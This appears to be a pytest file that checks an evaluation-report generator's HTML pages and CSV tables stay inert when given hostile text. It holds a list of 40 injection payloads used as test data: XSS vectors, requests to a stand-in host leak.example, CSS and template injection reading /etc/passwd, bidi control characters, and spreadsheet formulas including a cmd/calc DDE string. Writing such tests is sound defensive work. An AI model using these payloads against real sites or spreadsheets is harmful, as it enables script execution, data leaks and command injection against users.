"""The page as a browser sees it: nothing runs, nothing is asked for, and everybody can read it."""

import csv
from itertools import pairwise
from pathlib import Path

import pytest

from nsgauge.eval.report.comparing import write_comparison
from nsgauge.eval.report.contents import build_report
from nsgauge.eval.report.exhibits import exhibits_of
from nsgauge.eval.report.inputs import join_rows
from nsgauge.eval.report.side_by_side import judge_side, side_by_side
from nsgauge.eval.report.writing import write_report

# Each tries to be more than text: a mark on `window`, a dialog, a request, a style or a formula.
PAYLOADS = (
    "<script>window.hit=1</script>",
    "<script src=http://leak.example/1.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=http://leak.example/2.png>",
    "<svg onload=window.hit=1>",
    '"><svg/onload=alert(1)>',
    "<svg><script>window.hit=1</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "' onmouseover='window.hit=1' x='",
    '" autofocus onfocus="window.hit=1" x="',
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<body onload=window.hit=1>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href=javascript:window.hit=1 id=link>click</a>",
    "<form action=http://leak.example><button autofocus>",
    "<base href=http://leak.example/>",
    "<meta http-equiv=refresh content='0;url=http://leak.example'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<link rel=stylesheet href=http://leak.example/3.css>",
    "<style>@import 'http://leak.example/4.css';</style>",
    "<style>*{background:url(http://leak.example/5)}</style>",
    "</style><style>main{display:none}</style>",
    "x;} main{display:none} {",
    "<div style='position:fixed;inset:0;background:url(http://leak.example/6)'>",
    "</title></head><script>window.hit=1</script>",
    "</summary></details><script>window.hit=1</script>",
    "--><script>window.hit=1</script><!--",
    "]]><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
    "\u202egnp.exe\u202c\u2066\u2069\u200b\u200e\ufeff\u2060",
    "\u2028\u2029\x00\x07\x1b[31m",
    '=HYPERLINK("http://leak.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
_STRUCTURE = """JSON.stringify([...document.querySelectorAll("*")].map(element =>
  [element.tagName, ...element.getAttributeNames()].join(" ")))"""
_AXE_SAID = """axe.run(document, {resultTypes: ["violations"]}).then(found =>
  found.violations.map(fault => [fault.id, fault.nodes.length, fault.nodes[0].html]))"""


def axe_faults(browser):
    """What axe-core has against the page that is open."""
    package = pytest.importorskip("axe_core_python", reason="axe-core isn't installed")
    script = Path(package.__file__).with_name("axe.min.js").read_text(encoding="utf-8")
    browser.run(f"{script};0")
    return browser.run(_AXE_SAID)


def named(world, names):
    """The same rows whatever the names: every text of a row is one of them, or ten together."""
    judges = ["".join(names[start::4]) for start in range(4)]
    for number, name in enumerate(names):
        triple_id = world.triple(name, f"{number}", benchmark=judges[0], prompt=name, response=name)
        world.cell(triple_id, judges[number % 4], "gu" if number % 2 else "us", reason=name)
        world.verdict(triple_id, "other", safety="unsafe", reason=name)
        world.score(triple_id, [0.1, 0.4, 0.3, 0.2] if number % 3 else [0.7, 0.1, 0.1, 0.1])
    bundle = {"name": names[0], "recipe": {names[1]: names[2]}, "judges": judges[:1]}
    return world.inputs(title=names[0], bundle=bundle, command=names[1], cases=48)


@pytest.fixture(scope="module")
def tame_and_hostile(simulated, tmp_path_factory):
    """Two report folders that differ in their texts alone."""
    tame = [f"name {number}" for number in range(len(PAYLOADS))]
    folders = tmp_path_factory.mktemp("tame"), tmp_path_factory.mktemp("hostile")
    for folder, names in zip(folders, (tame, PAYLOADS), strict=True):
        inputs = named(simulated(0), names)
        report = build_report(inputs)
        assert report.disagreements is not None
        exhibits = exhibits_of(
            report.disagreements.triple_ids,
            triples=[inputs.triples],
            verdicts=inputs.verdicts,
            judge=report.disagreements.judge,
            images=None,
        )
        write_report(report, folder, exhibits=exhibits)
    return folders


def test_the_browser_would_notice(browser, tmp_path):
    page = tmp_path / "bad.html"
    page.write_text("<script>window.hit=1;console.error(2)</script><img src=http://leak.example/>")
    browser.open(page)
    assert browser.run("window.hit") == 1
    assert browser.asked_for() == [page.as_uri(), "http://leak.example/"]
    assert "Runtime.consoleAPICalled" in [event["method"] for event in browser.faults()]


def test_forty_payloads_do_nothing(tame_and_hostile, browser):
    assert len(PAYLOADS) == 40
    page = tame_and_hostile[1] / "report.html"
    browser.show()
    browser.open(page)
    browser.run("document.querySelectorAll('*').forEach(e => { e.click && e.click(); })")
    browser.run("new Promise(done => setTimeout(done, 300))")
    assert browser.run("window.hit") is None
    assert browser.asked_for() == [page.as_uri()]
    assert browser.faults() == []


def test_hostile_texts_leave_the_page_as_it_is_with_tame_ones(tame_and_hostile, browser):
    structures = []
    for folder in tame_and_hostile:
        browser.open(folder / "report.html")
        structures.append(browser.run(_STRUCTURE))
    assert structures[0] == structures[1]
    turning = r"/[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/"
    assert browser.run(f"{turning}.test(document.body.textContent)") is False
    assert browser.run("getComputedStyle(document.querySelector('main')).display") == "block"


def test_a_comparison_of_hostile_names_runs_nothing(simulated, browser, tmp_path):
    rows = join_rows(named(simulated(0), PAYLOADS))
    hostile, other = judge_side(rows.judges[0]), judge_side(rows.judge("other"))
    facts = {"command": "".join(PAYLOADS)}
    found = side_by_side(rows, first=hostile, second=other, reference=rows.judges[2], facts=facts)
    page = write_comparison(found, tmp_path)
    browser.open(page)
    assert browser.run("document.querySelectorAll('tbody tr').length") > 10
    assert browser.run("window.hit") is None
    assert browser.asked_for() == [page.as_uri()]
    assert browser.faults() == []
    assert axe_faults(browser) == []


def test_texts_are_veiled_until_they_are_clicked(tame_and_hostile, browser):
    browser.open(tame_and_hostile[1] / "report.html")
    assert browser.run("document.querySelectorAll('blockquote').length") > 20
    seen = "[...document.querySelectorAll('blockquote')].filter(b => b.checkVisibility()).length"
    assert browser.run(seen) == 0
    browser.run("document.querySelector('summary').click()")
    assert 0 < browser.run(seen) <= 3


def test_no_table_holds_a_formula(tame_and_hostile):
    for path in tame_and_hostile[1].glob("tables/*.csv"):
        with path.open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [cell for cell in cells if cell.startswith(("=", "@", "\t", "\r"))]
        assert risky == [], path.name


@pytest.mark.parametrize(("scheme", "width"), [("light", 1200), ("dark", 1200), ("light", 390)])
def test_axe_finds_no_fault(full_report, browser, scheme, width):
    browser.show(scheme=scheme, width=width)
    browser.open(full_report / "report.html")
    assert axe_faults(browser) == []


@pytest.mark.parametrize("width", [1200, 390])
def test_the_page_is_never_wider_than_the_screen(full_report, browser, width):
    browser.show(width=width)
    browser.open(full_report / "report.html")
    assert browser.run("document.documentElement.scrollWidth") <= width


def test_headings_descend_one_step_at_a_time(full_report, browser):
    browser.open(full_report / "report.html")
    levels = browser.run("[...document.querySelectorAll('h1,h2,h3,h4')].map(h => +h.tagName[1])")
    assert levels.count(1) == 1
    assert levels[0] == 1
    assert all(below - above <= 1 for above, below in pairwise(levels))


def test_opening_the_page_asks_for_nothing_and_says_nothing(full_report, browser):
    browser.show()
    browser.open(full_report / "report.html")
    assert browser.asked_for() == [(full_report / "report.html").as_uri()]
    assert browser.faults() == []
